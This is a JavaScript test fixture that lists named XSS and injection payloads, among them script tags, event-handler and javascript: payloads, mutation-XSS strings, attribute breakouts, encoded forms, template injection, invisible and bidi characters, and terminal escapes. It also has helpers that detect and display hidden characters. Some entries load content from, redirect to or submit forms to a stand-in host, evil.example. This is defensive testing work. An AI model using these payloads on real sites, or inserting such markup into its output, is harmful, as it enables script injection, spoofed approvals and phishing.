// Texts that try to be more than text. Where one runs, it sets `pwned`.

const repeat = (text, times) => text.repeat(times);

/** The texts by name. */
export const HOSTILE_TEXTS = Object.entries({
  // Scripts.
  script: "<script>pwned=1</script>",
  "script in capitals": "<SCRIPT>pwned=1</SCRIPT>",
  "script with a slash": "<script/x>pwned=1</script/x>",
  "script with a source": '<script src="http://evil.example/a.js"></script>',
  "script without an end": "<script>pwned=1//",
  "script in a script": "<scr<script>ipt>pwned=1</scr</script>ipt>",
  "module script": '<script type="module">globalThis.pwned=1</script>',
  "end of a script": "</script><script>pwned=1</script>",
  // Event handlers.
  "image error": "<img src=x onerror=pwned=1>",
  "image error, quoted": '"><img src="x" onerror="pwned=1">',
  "image error, backticks": "<img src=`x` onerror=`pwned=1`>",
  "image with slashes": "<img/src=x/onerror=pwned=1>",
  "svg load": "<svg onload=pwned=1>",
  "body load": "<body onload=pwned=1>",
  "details toggle": "<details open ontoggle=pwned=1>x</details>",
  "input focus": "<input autofocus onfocus=pwned=1>",
  "style animation": "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart='pwned=1'>x</b>",
  "media error": "<video><source onerror=pwned=1></video><audio src=x onerror=pwned=1>",
  "marquee start": "<marquee onstart=pwned=1>x</marquee>",
  "pointer events": '<b onpointerenter="pwned=1" style="position:fixed;inset:0">x</b>',
  // Links and other elements with addresses.
  "javascript link": '<a href="javascript:pwned=1">click</a>',
  "bare javascript link": "javascript:pwned=1",
  "encoded javascript link": '<a href="jav&#x09;ascript:pwned=1">click</a>',
  "data link": "data:text/html,<script>pwned=1</script>",
  frame: '<iframe src="javascript:parent.pwned=1"></iframe>',
  "frame document": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  object: '<object data="data:text/html,<script>pwned=1</script>"></object><embed src="http://evil.example/">',
  base: '<base href="http://evil.example/">',
  refresh: '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
  stylesheet: '<link rel="stylesheet" href="http://evil.example/a.css">',
  import: "<style>@import 'http://evil.example/a.css';body{display:none}</style>",
  form: '<form action="http://evil.example/"><button name="action" value="approve">Approve with these grants</button></form>',
  "form attributes": '<button form="decide" formaction="http://evil.example/">x</button>',
  // SVG, MathML and templates.
  "svg script": "<svg><script>pwned=1</script></svg>",
  "svg animation": "<svg><a><animate attributeName=href values=javascript:pwned=1 /><text x=20 y=20>x</text></a></svg>",
  "svg use": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>pwned=1</script></svg>#x\"/></svg>",
  "svg foreign object": "<svg><foreignObject><body onload=pwned=1></foreignObject></svg>",
  "math link": '<math><mtext href="javascript:pwned=1">x</mtext></math>',
  template: "<template shadowrootmode=open><script>pwned=1</script></template>",
  "custom element": "<x-y><slot name=main></slot></x-y>",
  // Mutation, and breaking out of what texts stand in.
  "mutation with math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned=1&gt;\">",
  "mutation with noscript": '<noscript><p title="</noscript><img src=x onerror=pwned=1>">',
  "mutation with form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>",
  "end of a comment": "--><script>pwned=1</script><!--",
  "end of a bang comment": "--!><img src=x onerror=pwned=1>",
  "short comment": "<!--><img src=x onerror=pwned=1>-->",
  "end of CDATA": "]]><script>pwned=1</script><![CDATA[",
  "processing instruction": "<?xml version='1.0'?><?php echo 1 ?><!DOCTYPE html>",
  "end of a title": "</title><script>pwned=1</script>",
  "end of a textarea": "</textarea><img src=x onerror=pwned=1>",
  "end of a style": "</style><img src=x onerror=pwned=1>",
  "end of a noscript": "</noscript><img src=x onerror=pwned=1>",
  "end of a select": "</option></select><img src=x onerror=pwned=1>",
  "end of the page": "</code></li></ol></main></body></html><img src=x onerror=pwned=1>",
  plaintext: "<plaintext><xmp><listing>",
  // Breaking out of attributes.
  "double quote": '" onmouseover="pwned=1" x="',
  "single quote": "' onmouseover='pwned=1' x='",
  backtick: "` onmouseover=`pwned=1` x=`",
  "no quote": "x onmouseover=pwned=1 y",
  "quote and autofocus": '"autofocus onfocus="pwned=1',
  "all quotes": "\"'`>\"'`/>\\\"\\'\\`",
  // Entities and encodings.
  entities: "&lt;script&gt;pwned=1&lt;/script&gt;",
  "numeric entities": "&#60;img src=x onerror=pwned=1&#62; &#x3c;script&#x3e;",
  "half entities": "&ltscript&gt &amp &copy &notanentity; &#0; &#1114112; &",
  "percent encoding": "%3Cscript%3Epwned%3D1%3C%2Fscript%3E%00%0d%0a",
  "script escapes": "\\u003cscript\\u003epwned=1\\x3c/script\\x3e",
  "seven bits": "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
  "wide brackets": "＜script＞pwned=1＜/script＞ ‹script›",
  // Template languages and format strings.
  braces: "{{constructor.constructor('pwned=1')()}} ${pwned=1} #{pwned=1} <%= pwned=1 %> {% raw %}",
  "format strings": "{} {0} {name} {count} %s %n %d {{}} $1 \\1",
  // The text spells what the page would write for a hidden character.
  "spelled code": "\\u{202e} \\u{0} \\u{200b} ·×70",
  // Directions, invisible characters and control characters.
  "right-to-left override": "access\u202etxt.exe\u202c end",
  "isolated directions": "a\u2066b\u2067c\u2068d\u2069e\u061cf\u200eg\u200fh",
  "zero width": "ap\u200bpr\u200cov\u200de\u2060d\ufeff",
  fillers: "a\u3164b\u115fc\u1160d\uffa0e\u00adf\u034fg\u17b4h\u180ei",
  "tags block": "hello\u{e0041}\u{e0020}\u{e007f}",
  "variation selectors": "a\ufe00b\ufe0fc\u{e0100}d",
  "terminal colours": "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J \u009b31m",
  "terminal link": "\u001b]8;;http://evil.example/\u001b\\click\u001b]8;;\u001b\\",
  "control characters": "a\u0001b\u0008\u0008c\u000bd\u000ce\u007ff\u0085g\u009fh",
  "null character": "a\u0000b<scr\u0000ipt>pwned=1</script>",
  "carriage returns": "visible\rhidden\r\nnext\rline",
  "line separators": "a\u2028b\u2029c",
  "interlinear annotation": "a\ufff9b\ufffac\ufffbd",
  "private and unassigned": "a\ue000b\u{f0000}c\u0378d\ufffee\uffff f",
  // Length, and characters that are drawn together.
  "one long word": repeat("wide", 1_000),
  "many lines": repeat("line\n", 200) + "end",
  blanks: `a${repeat(" ", 200)}b${repeat("\t", 60)}c${repeat("\u3000", 90)}d${repeat("\u00a0", 90)}e`,
  "braille blanks": `a${repeat("\u2800", 90)}b`,
  emoji: "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇯🇵 👍🏽 ☺️",
  combining: `Z${repeat("\u0351\u0338\u0321", 60)}a${repeat("\u0300", 120)}`,
  "mixed scripts": "pаypаl αpprοve דוגמה مثال 名前が長い道具 Ꮪcript",
});

/** Characters that a reader does not see, or that move others (Unicode 17, in the words of the browser's own tables). */
const HIDDEN = /(?![\n\t])[\p{Cc}\p{Default_Ignorable_Code_Point}\p{Bidi_Control}\u2028\u2029\ufff9-\ufffb]/u;

/** Returns whether a text has a character that is not shown as itself. */
export function hasHidden(text) {
  return HIDDEN.test(text);
}

/** Returns a text as a page shows it: hidden characters by their code, and long runs of blanks by their length. */
export function shown(text) {
  const codes = text.replaceAll(new RegExp(HIDDEN, "gu"), (char) => code(char));
  const count = (run) => ` ·×${[...run].length} `;
  // Outside of the first columns of a line, where a run is its indentation.
  return codes.replaceAll(/(?<=\S)(?:[ \u00a0\u3000\u2800]{8,}|\t{2,})/gu, count);
}

/** Returns a text as a page shows it where it is on one line: line feeds and tabs by their code, too. */
export function shownOnLine(text) {
  return shown(text.replaceAll(/[\n\t]/g, (char) => `\u0000${char.codePointAt(0)}\u0000`))
    .replaceAll("\\u{0}9\\u{0}", code("\t"))
    .replaceAll("\\u{0}10\\u{0}", code("\n"));
}

/** Returns the codes of the hidden characters of a text, in their order. */
export function hiddenCodes(text) {
  return [...text.matchAll(new RegExp(HIDDEN, "gu"))].map(([char]) => code(char));
}

function code(char) {
  return `\\u{${char.codePointAt(0).toString(16)}}`;
}
